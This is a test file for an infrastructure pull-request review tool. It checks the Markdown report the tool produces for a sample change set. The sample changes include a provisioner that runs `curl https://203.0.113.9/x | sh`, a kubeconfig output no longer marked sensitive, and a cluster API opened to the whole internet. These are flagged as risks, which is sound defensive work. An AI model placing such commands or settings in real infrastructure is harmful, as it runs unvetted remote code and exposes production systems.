import { expect, test } from 'vitest';
import { renderMarkdown } from '../../../../src/review/render/markdown';
import { pullRequest } from '../../fixtures/pull-request';

test('a comment says everything in this order: what decides first, each stack below, what is not known last', () => {
  expect(renderMarkdown(pullRequest)).toBe(`<!-- ovh-landing-zone review: landing-zone -->
## Runs code that is not of this repository, destroys data or services (2 resources) in \`data/prod\`, opens 1 thing to the whole internet, loses track of the state of 1 stack and 8 more that are below: not safe to merge without the consent of 4 owners

3 stacks changed: +5 ~2 ±1 -1, 1 moved; 1 stack left behind.

Pull request \`Room for telemetry\` by \`maya\` at \`1a2b3c4d5e6f\`

Compared \`origin/main\` with \`working tree\`. 4 other stacks without changes.

- **Runs code**: that is not of this repository, in 1 stack
- **Provider**: another one, or another version or configuration of one, in 2 stacks
- **State**: looked for elsewhere: everything would be made again, in 1 stack
- **Guards**: something no longer stops a mistake, in 1 stack
- **Unread**: something differs that nobody here can read, in 1 stack
- **Data**: 2 resources lose what is in them
- **Moves**: 1 resource would be destroyed and created; one line of code keeps each
- **Stacks**: 1 no longer in the program; not destroyed, so still running and costing
- **Failures**: the change of 1 resource would fail
- **Orders**: 1 resource would be ordered and billed
- **Exposure**: 1 opened to the whole internet
- **Place**: new in BHS, outside the European Union
- Access: 1 gained, 1 no longer denied
- Exposure: 1 opened otherwise, 1 closed
- Addresses: 1 network taken, 1 freed
- Place: new in EU-WEST-PAR
- Affected: 3 teams, 3 environments, 4 owners

### Runs code, other provider, state moves, guard removed, unread

- **runs code** runs a local-exec provisioner: curl \`https://203.0.113.9/x\` <code>&#124;</code> sh
  - Where: \`data-prod\` \`Clusters/main/NodePools/batch\` at \`examples/orbital/landing-zone.ts:132\`
  - Differs: \`provisioner[0].local-exec.command\`: + <code>curl https&#58;//203.0.113.9/x &#124; sh</code>
- **other provider** provider ovh is 2.20.0 instead of 2.19.0
  - Where: \`terraform.required_providers\` of 2 stacks: \`organization\`, \`data-prod\`
  - Differs: \`ovh.version\`: \`2.19.0\` → \`2.20.0\`
- **state moves** the state moves from local to s3: Terraform finds none there, and would make everything again
  - Where: \`data-prod\` \`terraform.backend\`
  - Differs: \`s3.bucket\`: + \`orbital-states\`
  - Keep it with: \`terraform -chdir=cdktf.out/stacks/data-prod state pull > data-prod.tfstate  # in the output of the base\`
  - Keep it with: \`terraform -chdir=cdktf.out/stacks/data-prod init\`
- **guard removed** its value is no longer hidden (sensitive)
  - Where: \`data-prod\` \`output.kubeconfig\`
  - Differs: \`sensitive\`: - \`true\`
- **unread** configuration beside what cdktf wrote is new
  - Where: \`data-prod\` \`extra.tf\`

### What changed, and what follows

- \`data-prod/Clusters/main private_network_id\`: \` \${Networks/main.id} \` → \` \${Networks/wide.id} \`
  - 1 replaced, 1 with a loss of data or a service in \`data-prod\`
  - **replace** \`Clusters/main\` in \`data-prod\` (\`ovh_cloud_project_kube\`)
    - Lost: the etcd data of the cluster: every Kubernetes object that is not in Git
- \`data-prod/Storage/telemetry\` is gone
  - 1 destroyed, 1 with a loss of data or a service in \`data-prod\`
  - **destroy** \`Storage/telemetry\` in \`data-prod\` (\`ovh_cloud_project_storage\`)
    - Lost: the objects of the bucket
    - Fails: a bucket that holds objects cannot be deleted; empty it first
- \`data-prod/Databases/catalogue\` moves
  - 1 moved in \`data-prod\`
  - **move** \`Databases/catalogue\` in \`data-prod\` (\`ovh_cloud_project_database\`)
    - Why: only its address changed; it was \`ovh_cloud_project_database.Databases_catalog_0A1B2C3D\`
    - Keep it with: \`resource.moveFromId('ovh_cloud_project_database.Databases_catalog_0A1B2C3D')\`
    - Would lose: the databases and their backups
- stack \`erp-dev\` is gone
  - 1 stack left behind
  - **left behind** \`erp-dev\` is gone from the program
    - Still there: cdktf deploy doesn't destroy it: 3 resources keep running and costing
    - Remove with: \`npx landing-zone destroy erp-dev\`
    - Would lose: \`Clusters/main\`: the etcd data
- stack \`fd-lab\` is new (3 added in \`fd-lab\`)
- \`organization/Groups/contractors\` is new (1 added in \`organization\`)
- \`organization/Policies/logs allow\` changes: + \`ldp:apiovh:output/graylog/stream/*\` (1 changed in \`organization\`)
- \`data-prod/Clusters/main/NodePools/batch max_nodes, template.metadata.labels["stage"], template.metadata.annotations["token"]\` changes (1 changed in \`data-prod\`)
- \`data-prod/Clusters/main/ApiAccess\` is new (1 added in \`data-prod\`)
- \`data-prod/Clusters/main version\`: \`1.33\` → \`1.34\` (part of 1 change)

### Otherwise than planned

| What | Where                                | Why                                  |
| ---- | ------------------------------------ | ------------------------------------ |
| Buys | \`fd-lab/Project\` at \`examples/orbital/landing-zone.ts:62\` | creating it orders a Public Cloud project in the name of the account |
| Note | \`data-prod\`                          | protection against destruction is taken away from \`Storage/telemetry\` |

### Access

| Change           | Who                 | Action                               | On             | Condition           | Until      | Where                                |
| ---------------- | ------------------- | ------------------------------------ | -------------- | ------------------- | ---------- | ------------------------------------ |
| no longer denied | \`group data-ops\`    | \`publicCloudProject:apiovh:delete\`   | \`this project\` |                     |            | \`data-prod/Access/operator\` at \`examples/orbital/landing-zone.ts:127\` |
| gained           | \`group contractors\` | \`ldp:apiovh:output/graylog/stream/*\` | \`ldp:*\`        | from 203.0.113.0/24 | 2027-03-31 | \`organization/Policies/logs\` at \`examples/orbital/landing-zone.ts:38\` |

### Exposure

| Change | Kind           | What                                 | Open to                        | Where                                |
| ------ | -------------- | ------------------------------------ | ------------------------------ | ------------------------------------ |
| opened | allow-list     | API of the cluster main              | 0.0.0.0/0 (the whole internet) | \`data-prod/Clusters/main/ApiAccess\` at \`examples/orbital/landing-zone.ts:130\` |
| opened | public address | the gateway of network main gets a public address |                                | \`fd-lab/Networks/main/Gateway\` at \`examples/orbital/landing-zone.ts:64\` |
| closed | allow-list     | API of the cluster main              | 203.0.113.0/28                 | \`data-prod/Clusters/main/ApiAccess\` at \`examples/orbital/landing-zone.ts:130\` |

### Addresses

| Change | Network   | VLAN  | Addresses       | Used by   |
| ------ | --------- | ----- | --------------- | --------- |
| taken  | \`fd-lab\`  | \`123\` | \`10.20.40.0/22\` | \`fd-lab\`  |
| freed  | \`erp-dev\` | \`141\` | \`10.22.4.0/22\`  | \`erp-dev\` |

Next free VLAN: \`124\`, Next free \`/22\`: \`10.20.44.0/22\`

### Place

| Change | Region        | Country | Law                        | What                                | Where                                |
| ------ | ------------- | ------- | -------------------------- | ----------------------------------- | ------------------------------------ |
| new    | \`BHS\`         | CA      | outside the European Union | \`ovh_cloud_project_storage\`         | \`data-prod/Storage/archive\`          |
| new    | \`EU-WEST-PAR\` | FR      | European Union             | \`ovh_cloud_project_network_private\` | \`fd-lab/Project\`, \`fd-lab/Networks/main\`, \`fd-lab/Networks/main/Gateway\` |

### Affected

- To be agreed with its owners:
  - \`data@orbital.example\`: 1 stack, 2 resources lose data or a service
  - \`erp@orbital.example\`: 1 stack, 1 left behind
  - \`fd@orbital.example\`: 1 stack
  - \`it@orbital.example\`: 1 stack
- Teams: \`data\`, \`erp\`, \`flight-dynamics\`
- Environments: \`data/prod\`, \`erp/dev\`, \`flight-dynamics/lab\`

Deployed in this order (2 only come after a change, and are planned again):

1. \`organization\`
2. \`data-prod-foundation\`, \`fd-lab-foundation\`
3. \`data-prod\`, \`fd-lab\`

### Stacks

<details><summary><code>organization</code>: +1 ~1, other provider, owner <code>it&#64;orbital.example</code></summary>

- **add** \`Groups/contractors\` (\`ovh_me_identity_group\`) at \`examples/orbital/landing-zone.ts:31\`
- **change** \`Policies/logs\` (\`ovh_iam_policy\`) at \`examples/orbital/landing-zone.ts:38\`
  - \`allow\`: + \`ldp:apiovh:output/graylog/stream/*\`

</details>

<details><summary><code>data-prod</code>: +1 ~1 ±1 -1, 1 moved, runs code, other provider, state moves, guard removed, unread, team <code>data</code>, owner <code>data&#64;orbital.example</code></summary>

- **replace** \`Clusters/main\` (\`ovh_cloud_project_kube\`) at \`examples/orbital/landing-zone.ts:129\`
  - \`private_network_id\`: \` \${Networks/main.id} \` → \` \${Networks/wide.id} \`, which replaces it
  - \`version\`: \`1.33\` → \`1.34\`
- **destroy** \`Storage/telemetry\` (\`ovh_cloud_project_storage\`) at \`examples/orbital/landing-zone.ts:140\`
- **move** \`Databases/catalogue\` (\`ovh_cloud_project_database\`) at \`examples/orbital/landing-zone.ts:133\`
- **change** \`Clusters/main/NodePools/batch\` (\`ovh_cloud_project_kube_nodepool\`) at \`examples/orbital/landing-zone.ts:131\`
  - \`max_nodes\`: \`10\` → \`40\`
  - \`template.metadata.labels["stage"]\`: \`prod\` → \`production\`
  - \`template.metadata.annotations["token"]\`: \`(hidden)\` → \`(hidden)\`
- **add** \`Clusters/main/ApiAccess\` (\`ovh_cloud_project_kube_iprestrictions\`) at \`examples/orbital/landing-zone.ts:130\`
- note: protection against destruction is taken away from \`Storage/telemetry\`
- and 2 other differences:
  - data source is new: \`Account\`
  - output differs: \`output.url\`
    - \`value\`: \`https://a.example\` → \`https://b.example\`

</details>

<details><summary><code>fd-lab</code>: +3, team <code>flight-dynamics</code>, owner <code>fd&#64;orbital.example</code></summary>

- **add** \`Project\` (\`ovh_cloud_project\`) at \`examples/orbital/landing-zone.ts:62\`
- **add** \`Networks/main\` (\`ovh_cloud_project_network_private\`) at \`examples/orbital/landing-zone.ts:64\`
- **add** \`Networks/main/Gateway\` (\`ovh_cloud_project_gateway\`) at \`examples/orbital/landing-zone.ts:64\`

</details>

<details><summary><code>erp-dev</code>: 3 resources left behind, team <code>erp</code>, owner <code>erp&#64;orbital.example</code></summary>

- **left behind** \`Clusters/main\` (\`ovh_cloud_project_kube\`)
- **left behind** \`Clusters/main/NodePools/erp\` (\`ovh_cloud_project_kube_nodepool\`)
- **left behind** \`Clusters/main/NodePools/reports\` (\`ovh_cloud_project_kube_nodepool\`)

</details>

### Where the plan says otherwise

| Resource                             | Code says | Plan says | Why                                  |
| ------------------------------------ | --------- | --------- | ------------------------------------ |
| \`data-prod\` \`ovh_cloud_project_kube.Clusters_main_1A2B3C4D\` | replace   | change    | \`private_network_id\` turned out to be the same after apply |

### What this review could not know

- prices: this review says nothing about them
- stack fd-lab: module.audit comes from a registry and was not read

Digest of this review, for \`landing-zone deploy --reviewed\`: \`0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\`
`);
});
